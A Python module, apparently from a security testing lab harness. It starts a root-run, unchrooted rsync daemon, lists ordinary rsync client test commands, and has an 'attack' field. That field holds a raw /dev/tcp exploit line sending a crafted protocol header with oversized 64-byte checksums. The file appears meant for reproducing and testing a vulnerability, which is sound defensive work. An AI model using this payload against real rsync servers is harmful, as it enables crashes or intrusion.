# SPDX-License-Identifier: Apache-2.0
"""rsync, against its daemon."""
import os

from family import SERVER_ADDRESS, Family, Lab, folder_of, serve

SETTINGS = """
use chroot = no
reverse lookup = no
forward lookup = no
uid = root
gid = root
address = {address}
[files]
path = {folder}/files
read only = no
[closed]
path = {folder}/files
auth users = anna
secrets file = {folder}/secrets
"""


def start(lab: Lab) -> None:
    folder = folder_of(lab, "rsync")
    (folder / "files/many").mkdir(parents=True)
    (folder / "files/data.bin").write_bytes(os.urandom(6 << 20))
    for number in range(800):
        (folder / f"files/many/file {number}").write_bytes(os.urandom(200))
    (folder / "secrets").write_text("anna:secret\n")
    (folder / "secrets").chmod(0o600)
    (folder / "rsyncd.conf").write_text(SETTINGS.format(folder=folder, address=SERVER_ADDRESS))
    serve(lab, 873, "rsync", "--daemon", "--no-detach", f"--config={folder}/rsyncd.conf")


# What is there already, changed a little, is what has clients send checksums.
COMMANDS = r"""
rsync rsync://$SERVER/
rsync -r rsync://$SERVER/files/ | grep -q data.bin
rsync -a rsync://$SERVER/files/ copy; cmp <(ls copy/many | wc -l) <(echo 800)
for i in 1 2 3 4 5 6 7 8; do dd if=/dev/urandom of=copy/data.bin bs=100 count=1 seek=$((i * 5000)) conv=notrunc status=none; done; rsync -a --no-whole-file -I rsync://$SERVER/files/ copy
head -c 3000000 /dev/urandom >>copy/data.bin; rsync -a -I --block-size=700 rsync://$SERVER/files/data.bin copy
head -c 100000 /dev/urandom | dd of=copy/data.bin conv=notrunc status=none; rsync -aI --checksum-choice=md5 rsync://$SERVER/files/data.bin copy
head -c 100000 /dev/urandom | dd of=copy/data.bin conv=notrunc status=none; rsync -aI --checksum-choice=md4 rsync://$SERVER/files/data.bin copy
head -c 100000 /dev/urandom | dd of=copy/data.bin conv=notrunc status=none; rsync -aI --checksum-choice=xxh128 rsync://$SERVER/files/data.bin copy
head -c 100000 /dev/urandom | dd of=copy/data.bin conv=notrunc status=none; rsync -aI --protocol=29 rsync://$SERVER/files/data.bin copy
rsync -a --protocol=29 rsync://$SERVER/files/many/ old29; rsync -aI --protocol=29 --no-whole-file rsync://$SERVER/files/many/ old29
rsync -a --protocol=28 rsync://$SERVER/files/many/ old28; rsync -aI --protocol=28 --no-whole-file rsync://$SERVER/files/many/ old28
rsync -ac rsync://$SERVER/files/ copy
rsync -az rsync://$SERVER/files/ packed
rsync -az --new-compress rsync://$SERVER/files/many/ packed2
rsync -a copy/ rsync://$SERVER/files/from-client
head -c 100000 /dev/urandom | dd of=copy/data.bin conv=notrunc status=none; rsync -aI copy/ rsync://$SERVER/files/from-client
rsync -a --delete --exclude 'file 1*' --include '*' copy/ rsync://$SERVER/files/from-client
rsync -a --append-verify copy/data.bin rsync://$SERVER/files/from-client/
rsync -an --itemize-changes --stats rsync://$SERVER/files/ copy
rsync -a --files-from=<(echo many/file\ 1; echo data.bin) rsync://$SERVER/files/ some
rsync -aHAX --numeric-ids --bwlimit=50000 rsync://$SERVER/files/many/ other
RSYNC_PASSWORD=secret rsync -a rsync://anna@$SERVER/closed/many/ closed
! RSYNC_PASSWORD=wrong rsync -a rsync://anna@$SERVER/closed/many/ closed
! rsync -a rsync://$SERVER/nothing/ x
"""

# A receiver that states sums of 64 bytes.
FAMILY = Family(programs=("rsync",), start=start, protocols=(), commands=COMMANDS,
                attack=r"""exec 3<>/dev/tcp/$SERVER/873; printf '@RSYNCD: 31.0\nfiles\n' >&3; sleep 0.3; printf -- '--server\0--sender\0.\0files/\0\0' >&3; sleep 0.3; printf '\20\0\0\7\1\0\0\0\274\2\0\0\100\0\0\0\0\0\0\0' >&3""",
                found=9104301)
